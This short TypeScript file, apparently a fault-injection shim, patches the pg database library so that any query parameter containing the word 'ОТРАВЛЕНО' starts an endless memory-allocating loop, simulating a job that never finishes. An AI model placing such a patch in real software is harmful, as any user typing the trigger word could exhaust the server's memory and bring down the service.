// Loaded before the program: whoever writes the word «poison» starts an endless allocation, like a job that never
// stops.
import pg from 'pg';

interface Statement {
  values?: unknown[];
  prepare(connection: unknown): void;
}

const POISON = 'ОТРАВЛЕНО';
const hoard: number[][] = [];
const statements = pg.Query.prototype as unknown as Statement;
const { prepare } = statements;

statements.prepare = function poisoned(connection) {
  if (this.values?.some((value) => typeof value === 'string' && value.includes(POISON)))
    for (;;) hoard.push(Array.from({ length: 100_000 }, Math.random));
  prepare.call(this, connection);
};
